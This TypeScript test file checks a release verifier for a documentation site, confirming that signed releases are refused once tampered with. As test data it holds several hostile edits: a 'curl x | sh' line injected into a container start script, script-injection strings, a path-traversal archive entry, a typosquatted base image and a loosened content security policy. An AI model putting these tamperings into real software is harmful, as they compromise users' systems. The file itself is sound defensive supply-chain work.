/** A release is changed in every way that we could think of, and verified. */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gunzipSync, gzipSync, strFromU8, strToU8, Zip, ZipPassThrough, zipSync, type ZipOptions } from 'fflate';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { unzip, zipOf, type ArchiveFiles } from './archive.js';
import { CHECKSUMS_FILE, formatChecksums, signRelease } from './checksums.js';
import { releaseFiles, writeRelease } from './release.js';
import { headOf, type Source } from './source.js';
import { verifyRelease } from './verify.js';

// npm takes a second for the same list each time.
vi.mock(import('./bill-of-materials.js'), async (load) => {
  const real = await load();
  let bill: ReturnType<typeof real.readBillOfMaterials> | undefined;
  return { ...real, readBillOfMaterials: (root) => (bill ??= real.readBillOfMaterials(root)) };
});

// The lock file of the clone does not have the packages of the real ones.
vi.mock(import('../offline-edition/bundle.js'), () => ({
  bundleProgram: () => Promise.resolve('start();'),
  bundleServer: () => Promise.resolve({ text: 'serve();', notices: `${'='.repeat(80)}\na@1.0.0 (MIT)\n` }),
}));

const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'verify-'));
afterAll(() => fs.rmSync(folder, { recursive: true }));

const root = path.join(folder, 'clone');
const output = path.join(folder, 'release');
const signers = path.join(folder, 'allowed_signers');
const key = path.join(folder, 'key');
const otherKey = path.join(folder, 'other-key');
const hasOpenSsh = spawnSync('ssh-keygen', ['-?']).error === undefined;

const page = (text: string) =>
  strToU8(`<!doctype html><html lang=en><head><title>A</title></head><body>${text}</body></html>`);
const script = 'console.log("a script that is long enough to be compressed");'.repeat(40);
const site: ArchiveFiles = {
  'index.html': page('Home'),
  '404.html': page('Nothing here'),
  'docs/a.html': page('<p>A page that is long enough to be compressed. '.repeat(40)),
  'assets/js/site-search.0a1b2c3d.js': strToU8(script),
  'third-party-notices.txt': strToU8(`${'='.repeat(80)}\na@1.0.0 (MIT)\n`),
  'search/names.json': strToU8('{}'),
  'search/text.json': strToU8('{}'),
  'search/more.json': strToU8('{}'),
};

type Files = Record<string, Uint8Array>;
let files: Files;
let source: Source;

beforeAll(async () => {
  const git = (...options: string[]) =>
    spawnSync('git', ['-C', root, '-c', 'user.name=a', '-c', 'user.email=a@bank.example', ...options]);
  fs.mkdirSync(root);
  const about = { name: 'docs', version: '0.1.0' };
  const integrity = `sha512-${'A'.repeat(86)}==`;
  const packages = { '': about, 'node_modules/a': { version: '1.0.0', license: 'MIT', integrity } };
  fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify({ ...about, dependencies: { a: '1.0.0' } }));
  fs.writeFileSync(
    path.join(root, 'package-lock.json'),
    JSON.stringify({
      ...about,
      lockfileVersion: 3,
      packages: { ...packages, '': { ...about, dependencies: { a: '1.0.0' } } },
    }),
  );
  git('init');
  git('add', '.');
  git('commit', '-m', 'Add a');
  source = headOf(root) as Source;
  files = await releaseFiles({ root, source, site });
  if (!hasOpenSsh) return;
  for (const one of [key, otherKey]) spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', one]);
  const [type, code] = fs.readFileSync(`${key}.pub`, 'utf8').split(' ');
  fs.writeFileSync(signers, `releases@bank.example namespaces="impact-docs-release" ${type} ${code}\n`);
}, 60_000);

/** Writes the files with right sums and a right signature. */
function write(given: Files, signingKey = key): void {
  fs.rmSync(output, { recursive: true, force: true });
  writeRelease(given, output, signingKey);
}

/** Signs the sums again, whatever they are. */
const signAgain = () => signRelease(output, key);
const sums = path.join(output, CHECKSUMS_FILE);
const sign = `${sums}.sig`;

async function problems(): Promise<string[]> {
  const error: unknown = await verifyRelease(output, { root, signers }).catch((reason: unknown) => reason);
  if (!(error instanceof Error)) return [];
  expect(error.name).toBe('ReleaseError');
  return error.message.split('\n').filter((line) => !line.endsWith('is not as it was made:'));
}

const withFile = (name: string, content: string) => ({ ...files, [name]: strToU8(content) });
const content = (name: string) => files[name] ?? new Uint8Array();

/** An archive with other files, made like one of a release. */
function edited(name: string, edit: (entries: ArchiveFiles) => ArchiveFiles): Files {
  return { ...files, [name]: zipOf(edit({ ...unzip(name, content(name)) }), source.date) };
}

const plus = (name: string, file: string, text: string | Uint8Array) =>
  edited(name, (entries) => ({ ...entries, [file]: typeof text === 'string' ? strToU8(text) : text }));
const minus = (name: string, file: string) =>
  edited(name, (entries) => Object.fromEntries(Object.entries(entries).filter(([one]) => one !== file)));
const replaced = (name: string, file: string, from: string, to: string) =>
  edited(name, (entries) => {
    const before = strFromU8(entries[file] ?? new Uint8Array());
    expect(before).toContain(from);
    return { ...entries, [file]: strToU8(before.replace(from, to)) };
  });

/** The same files, packed in another way. */
const packed = (name: string, options: ZipOptions) => ({
  ...files,
  [name]: zipSync(unzip(name, content(name)), { mtime: source.date, level: 9, os: 3, ...options }),
});

/** An archive whose bytes are changed. @param at where in the first entry of the central directory (APPNOTE 4.3.12) */
function patched(name: string, at: number, ...bytes: number[]): Files {
  const archive = Uint8Array.from(content(name));
  const directory = Buffer.from(archive).indexOf('PK\u0001\u0002', 'latin1');
  archive.set(bytes, directory + at);
  return { ...files, [name]: archive };
}

function withSecondEntry(name: string): Files {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((_, chunk) => chunks.push(chunk));
  for (const [file, text] of [...Object.entries(site), ['index.html', page('Home')] as const]) {
    const entry = new ZipPassThrough(file);
    zip.add(entry);
    entry.push(text, true);
  }
  zip.end();
  return { ...files, [name]: Uint8Array.from(Buffer.concat(chunks)) };
}

const json = (name: string, edit: (value: Record<string, unknown>) => unknown) =>
  withFile(name, `${JSON.stringify(edit(JSON.parse(strFromU8(content(name)))), undefined, 2)}\n`);

const OTHER_FORM = 'its files are right, and it holds more: a link, a mode, a time, a second entry, or other bytes';
const compressed = 'nginx/html/docs/a.html.gz';
const archives = ['site.zip', 'offline.zip', 'server.zip'];

describe.skipIf(!hasOpenSsh)('verifying', () => {
  it('accepts a release as it was made, and says who signed it', async () => {
    write(files);
    const { revision, signer } = await verifyRelease(output, { root, signers });
    expect(revision).toBe(source.revision);
    expect(signer).toMatch(/^releases@bank\.example, ED25519 key SHA256:[\w+/]{43}$/);
    expect(spawnSync('sha256sum', ['-c', CHECKSUMS_FILE], { cwd: output }).status ?? 0).toBe(0);
  });

  describe('with sums and signature made anew, refuses', () => {
    it.each<[what: string, change: () => Files, line: string]>([
      ...archives.flatMap((name): [string, () => Files, string][] => [
        [`a link in ${name}`, () => patched(name, 38, 0, 0, 0xff, 0xa1), `${name}: ${OTHER_FORM}`],
        [`an executable in ${name}`, () => patched(name, 38, 0, 0, 0xed, 0x81), `${name}: ${OTHER_FORM}`],
        [`another time in ${name}`, () => packed(name, { mtime: '2020-01-01' }), `${name}: ${OTHER_FORM}`],
        [
          `bytes before ${name}`,
          () => ({ ...files, [name]: Buffer.concat([strToU8('#!/bin/sh\n'), content(name)]) }),
          name,
        ],
        [`bytes after ${name}`, () => ({ ...files, [name]: Buffer.concat([content(name), strToU8('x')]) }), name],
        [`no archive as ${name}`, () => withFile(name, 'PK'), `${name} is no ZIP archive.`],
        [`a name that leaves the folder of ${name}`, () => plus(name, '../a', ''), `${name} has names that lead out`],
      ]),
      ['another page in site.zip', () => replaced('site.zip', 'docs/a.html', 'page', 'Page'), 'offline.zip: "impact-'],
      ['a second entry of a page', () => withSecondEntry('site.zip'), `site.zip: ${OTHER_FORM}`],
      ['stored files', () => packed('site.zip', { level: 0 }), `site.zip: ${OTHER_FORM}`],
      ['a comment of an entry', () => packed('site.zip', { comment: 'x' }), `site.zip: ${OTHER_FORM}`],
      ['an extra field', () => packed('site.zip', { extra: { 0x7075: strToU8('a') } }), `site.zip: ${OTHER_FORM}`],
      ['an entry for DOS', () => packed('site.zip', { os: 0 }), `site.zip: ${OTHER_FORM}`],
      ['an encrypted entry', () => patched('site.zip', 8, 1, 0), `site.zip: ${OTHER_FORM}`],
      [
        'an injected script',
        () => replaced('site.zip', 'docs/a.html', '<p>', '<script>alert(1)</script><p>'),
        'site.zip: The built site has 1 problem',
      ],
      [
        'a script with an event',
        () => replaced('site.zip', 'docs/a.html', '<p>', '<p onclick="alert(1)">'),
        'site.zip: The built site has 1 problem',
      ],
      ['no page for what is not found', () => minus('site.zip', '404.html'), 'site.zip: '],
      ['an extra page in the container', () => plus('server.zip', 'nginx/html/b.html', 'B'), 'b.html" should not be'],
      ['an extra script', () => plus('server.zip', 'nginx/html/b.js', ''), '"nginx/html/b.js" should not be there'],
      [
        'an extra .gz',
        () => plus('server.zip', 'nginx/html/index.html.gz', gzipSync(page('x'))),
        'index.html.gz" should',
      ],
      ['a page that is gone', () => minus('server.zip', 'nginx/html/docs/a.html'), 'docs/a.html" is missing'],
      ['a compressed page that is gone', () => minus('server.zip', compressed), 'docs/a.html.gz" is missing'],
      [
        'another compressed page',
        () => plus('server.zip', compressed, gzipSync(page('x'))),
        'docs/a.html.gz" is not what the site makes',
      ],
      [
        'a compressed page with a second member',
        () =>
          edited('server.zip', (entries) => ({
            ...entries,
            [compressed]: Buffer.concat([entries[compressed] ?? new Uint8Array(), gzipSync(strToU8('<script src=x>'))]),
          })),
        'docs/a.html.gz" is not what the site makes',
      ],
      [
        'a compressed page with a name in it',
        () =>
          edited('server.zip', (entries) => ({
            ...entries,
            [compressed]: gzipSync(gunzipSync(entries[compressed] ?? new Uint8Array()), { filename: 'x' }),
          })),
        'docs/a.html.gz" is not what the site makes',
      ],
      [
        'frames',
        () => replaced('server.zip', 'nginx/nginx.conf', "frame-ancestors 'none'", 'frame-ancestors *'),
        'nginx.conf" is not what the site makes',
      ],
      [
        'scripts from elsewhere for the CDN',
        () => replaced('server.zip', 'cdn/_headers', "script-src 'self'", 'script-src *'),
        '_headers" is not what the site makes',
      ],
      [
        'a redirect',
        () => plus('server.zip', 'cdn/_redirects', '/* https://bank.example 301\n'),
        '_redirects" is not what the site makes',
      ],
      ['other headers as data', () => plus('server.zip', 'headers.json', '{}'), 'headers.json" is not what the site'],
      [
        'another base image',
        () => replaced('server.zip', 'nginx/Dockerfile', 'nginxinc/', 'nginxlnc/'),
        'Dockerfile" is',
      ],
      [
        'another start of the container',
        () => replaced('server.zip', 'nginx/serve-site.sh', 'exec', 'curl x | sh; exec'),
        'serve-site.sh" is not what the site makes',
      ],
      [
        'another documentation server',
        () => replaced('offline.zip', 'impact-docs/documentation-server.mjs', 'serve', 'steal'),
        'documentation-server.mjs" is not what the site makes',
      ],
      ['another program offline', () => plus('offline.zip', 'impact-docs/b.js', 'x'), '"impact-docs/b.js" should not'],
      [
        'another page offline',
        () => replaced('offline.zip', 'impact-docs/index.html', 'Home', 'Phone'),
        'index.html" is not what the site makes',
      ],
      [
        'an offline edition without a page',
        () => minus('offline.zip', 'impact-docs/index.html'),
        'index.html" is miss',
      ],
      ['no list of packages', () => withFile('packages.cdx.json', '{}\n'), 'packages.cdx.json: not what this commit'],
      [
        'a package less',
        () => json('packages.cdx.json', (bill) => ({ ...bill, components: [] })),
        'packages.cdx.json: not what this commit makes',
      ],
      [
        'no list of what is shipped',
        () => json('shipped.cdx.json', (bill) => ({ ...bill, components: [] })),
        'shipped.cdx.json: not what this commit makes',
      ],
      [
        'a package that the lock file does not have',
        () => replaced('site.zip', 'third-party-notices.txt', 'a@1.0.0', 'a@1.0.1'),
        'The scripts contain what package-lock.json does not list: a@1.0.1.',
      ],
      [
        'another commit',
        () => json('release.json', (record) => ({ ...record, revision: 'a'.repeat(40) })),
        `release.json: made from commit ${'a'.repeat(40)}, and`,
      ],
      [
        'a short name of the commit',
        () => json('release.json', (record) => ({ ...record, revision: 'abc' })),
        'release.json: `revision` is no full name of a commit',
      ],
      ...['version', 'date', 'name', 'more'].map((member): [string, () => Files, string] => [
        `another ${member}`,
        () => json('release.json', (record) => ({ ...record, [member]: '9' })),
        'release.json: not what this commit makes',
      ]),
      [
        'other programs that made it',
        () => json('release.json', (record) => ({ ...record, madeWith: { node: 'x', npm: '1.2.3' } })),
        'release.json: `madeWith` has no versions',
      ],
      ['no record', () => withFile('release.json', 'null'), 'release.json: not what identifies a release'],
      ['a file that no release has', () => withFile('install.sh', ''), 'install.sh: '],
    ])('%s', async (_, change, line) => {
      write(change());
      const found = await problems();
      expect(found.length).toBeGreaterThan(0);
      expect(found.filter((one) => one.includes(line)).length).toBeGreaterThan(0);
    });
  });

  describe('refuses', () => {
    const inFolder = (name: string) => path.join(output, name);
    it.each<[what: string, change: () => void, line: string]>([
      ['no signature', () => fs.rmSync(sign), 'SHA256SUMS.sig: missing; nobody has signed this release'],
      ['an empty signature', () => fs.writeFileSync(sign, ''), 'SHA256SUMS.sig: by nobody in'],
      ['a signature of somebody else', () => write(files, otherKey), 'SHA256SUMS.sig: by nobody in'],
      [
        'a signature for another purpose',
        () => {
          fs.rmSync(sign);
          spawnSync('ssh-keygen', ['-Y', 'sign', '-f', key, '-n', 'file', sums]);
        },
        'SHA256SUMS.sig: ',
      ],
      [
        'a signature of other sums',
        () => {
          const other = fs.readFileSync(sign);
          write(withFile('packages.cdx.json', '{}'));
          fs.writeFileSync(sign, other);
        },
        'SHA256SUMS.sig: not of this SHA256SUMS',
      ],
      ['another file', () => fs.writeFileSync(inFolder('site.zip'), ''), 'site.zip: another checksum'],
      ['a file less', () => fs.rmSync(inFolder('offline.zip')), 'offline.zip: missing'],
      ['a file more', () => fs.writeFileSync(inFolder('b.txt'), ''), 'b.txt: a release has no such file'],
      ['a folder more', () => fs.mkdirSync(inFolder('b')), 'b: no regular file'],
      [
        'a link as a file',
        () => {
          fs.renameSync(inFolder('site.zip'), path.join(folder, 'site.zip'));
          fs.symlinkSync(path.join(folder, 'site.zip'), inFolder('site.zip'));
        },
        'site.zip: no regular file',
      ],
      [
        'a list that lost a file',
        () => {
          fs.writeFileSync(sums, fs.readFileSync(sums, 'utf8').replace(/.*release\.json\n/, ''));
          signAgain();
        },
        'release.json: SHA256SUMS does not list it',
      ],
      [
        'a list with a file twice',
        () => {
          fs.appendFileSync(sums, formatChecksums({ 'site.zip': strToU8('') }));
          signAgain();
        },
        'SHA256SUMS has lines that are no checksum',
      ],
      ['no list', () => fs.rmSync(sums), 'is no release: it has no SHA256SUMS.'],
    ])('%s', async (_, change, line) => {
      write(files);
      change();
      expect((await problems()).filter((one) => one.includes(line))).toHaveLength(1);
    });
  });

  it('accepts a key until the day on which it was replaced', async () => {
    const [type, code] = fs.readFileSync(`${key}.pub`, 'utf8').split(' ');
    const until = (day: string) => {
      const list = path.join(folder, day);
      fs.writeFileSync(list, `old@bank.example valid-before="${day}" ${type} ${code}\n`);
      return verifyRelease(output, { root, signers: list });
    };
    write(files);
    expect((await until('20990101')).signer).toMatch(/^old@bank\.example/);
    await expect(until('20200101')).rejects.toThrow('SHA256SUMS.sig: by nobody in');
  });
});
